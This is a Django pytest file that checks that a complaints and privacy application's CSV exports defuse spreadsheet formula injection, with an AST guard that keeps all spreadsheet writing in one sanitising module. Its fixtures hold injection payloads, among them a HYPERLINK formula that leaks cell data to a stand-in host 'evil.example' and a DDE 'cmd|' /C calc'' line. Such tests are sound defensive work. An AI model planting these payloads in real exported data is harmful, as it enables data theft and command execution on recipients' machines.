"""No spreadsheet export runs a formula: every CSV (and any XLSX to come) goes through common.csv_cells.

Data with hostile names (a module, a customer, a complaint's subject, place and complainant, a staff
member's name and user name, the access log's reference and person) is exported through every export the
URL configuration serves; no cell may begin with a formula character (= + - @ tab CR, or their full-width
and small forms) unless it is a plain number, and each hostile text is there, behind an apostrophe. A guard
reads the source of every module: none writes CSV or XLSX except the one writer.
"""

from __future__ import annotations

import ast
import csv
import inspect
import io
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from accounts.roles import Role
from common.csv_cells import FORMULA_STARTS, safe_cell
from privacy.choices import AccessAction
from privacy.services import record_access
from testkit.complaints import phone_complaint
from testkit.factories import ContactFactory, ModuleFactory, user_with_role

pytestmark = pytest.mark.django_db

MODULE = '=HYPERLINK("http://evil.example/?leak="&A1,"Számlázó")'
CUSTOMER = "＝HYPERLINK(1) Kft."
SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLACE = "﹦1+1"
COMPLAINANT = "＋36 1 HYPERLINK"
ADDRESS = "-2+3"
LAST_NAME, FIRST_NAME = "=cmd", "Ödön"  # shown as "=cmd Ödön"
USERNAME = "+evil"
REFERENCE = "－1+1"
PERSON = "＠SUM(A1:A9)"


@dataclass(frozen=True)
class Export:
    url_name: str
    role: Role
    hostile: tuple[str, ...]  # texts of the data that this export writes


EXPORTS = [
    Export("complaints:export_csv", Role.COMPLAINT_OFFICER, (MODULE, SUBJECT, PLACE, COMPLAINANT, ADDRESS)),
    Export(
        "privacy:access_log_csv",
        Role.DATA_PROTECTION_OFFICER,
        (f"{LAST_NAME} {FIRST_NAME}", USERNAME, REFERENCE, PERSON),
    ),
    Export("dashboard:report_csv", Role.MANAGER, ()),  # figures and fixed codes only: still checked cell by cell
]


# --- the one writer ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "＋1",
        "－1+1",
        "＠SUM(1)",
        "﹦1",
        "﹢1",
        "﹣1",
        "﹫x",
    ],
)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("number", [-5, 3.25, Decimal("-12.50"), 0])
def test_real_numbers_stay_numbers(number: Any) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["-5", "+3", "-12,5", "-0.25", "1e-3", "42", "Kovács Éva", "", "P-2026/00001"])
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


# --- every export, with hostile data ----------------------------------------------------------------------


@pytest.fixture
def hostile_data(users: dict[str, Any]) -> None:
    contact = ContactFactory(customer__name=CUSTOMER)
    phone_complaint(
        users,
        contact=contact,
        customer=contact.customer,
        module=ModuleFactory(name=MODULE),
        subject=SUBJECT,
        place_received=PLACE,
        complainant_name=COMPLAINANT,
        complainant_address=ADDRESS,
    )
    viewer = user_with_role(Role.AGENT, username=USERNAME, first_name=FIRST_NAME, last_name=LAST_NAME)
    record_access(viewer, action=AccessAction.VIEW, obj=contact, subject=PERSON, reference=REFERENCE)


def _cells(response: Any) -> list[str]:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: e.url_name)
def test_no_cell_of_an_export_starts_a_formula(export: Export, hostile_data: None) -> None:
    client = Client()
    client.force_login(user_with_role(export.role, username=f"exporter-{export.role.value}"))
    today = timezone.localdate().isoformat()
    response = client.get(reverse(export.url_name), {"start": today, "end": today})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = _cells(response)
    assert len(cells) > 3
    assert [cell for cell in cells if _starts_a_formula(cell)] == []
    for text in export.hostile:
        assert f"'{text}" in cells, text


def _routes() -> list[tuple[str, Any]]:
    found: list[tuple[str, Any]] = []

    def walk(patterns: list[Any], namespaces: list[str]) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, [*namespaces, *filter(None, [pattern.namespace])])
            elif isinstance(pattern, URLPattern) and pattern.name:
                found.append((":".join([*namespaces, pattern.name]), pattern.callback))

    walk(get_resolver().url_patterns, [])
    return found


def test_every_csv_download_is_in_the_hostile_data_test() -> None:
    exporting = set()
    for name, callback in _routes():
        try:
            source = inspect.getsource(inspect.unwrap(callback))
        except (OSError, TypeError):
            continue
        if "csv_response(" in source:
            exporting.add(name)
    assert exporting == {export.url_name for export in EXPORTS}


# --- the guard --------------------------------------------------------------------------------------------

WRITER_MODULE = Path(settings.BASE_DIR, "common", "csv_cells.py")
SPREADSHEET_LIBRARIES = {"openpyxl", "xlsxwriter", "xlwt", "pyexcel", "pyexcel_xlsx", "odf", "tablib", "pandas"}


def _project_sources() -> list[Path]:
    skip = {".venv", "node_modules", "var", "tests", "migrations", "staticfiles"}
    return [
        path
        for path in Path(settings.BASE_DIR).rglob("*.py")
        if not skip & set(path.relative_to(settings.BASE_DIR).parts)
        and not any(part.startswith(".") for part in path.relative_to(settings.BASE_DIR).parts)  # .venv-audit …
        and path != WRITER_MODULE
    ]


def _spreadsheet_writing(tree: ast.AST) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
            if node.attr in {"writer", "DictWriter"}:
                found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if a.name in {"writer", "DictWriter"}]
        elif isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [f"import {m}" for m in modules if m.split(".")[0] in SPREADSHEET_LIBRARIES]
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) and "text/csv" in node.value:
            found.append(repr(node.value))
    return found


def test_no_module_writes_csv_or_xlsx_except_the_one_writer() -> None:
    sources = _project_sources()
    assert len(sources) > 100
    offenders = {}
    for path in sources:
        found = _spreadsheet_writing(ast.parse(path.read_text(encoding="utf-8")))
        if found:
            offenders[str(path.relative_to(settings.BASE_DIR))] = found
    assert offenders == {}, "write spreadsheets through common.csv_cells (csv_response / SafeCsvWriter)"


def test_the_guard_sees_a_direct_writer() -> None:
    tree = ast.parse("import csv\nimport openpyxl\nw = csv.writer(f)\nr = HttpResponse(content_type='text/csv')")
    assert _spreadsheet_writing(tree) == ["import openpyxl", "csv.writer", "'text/csv'"]
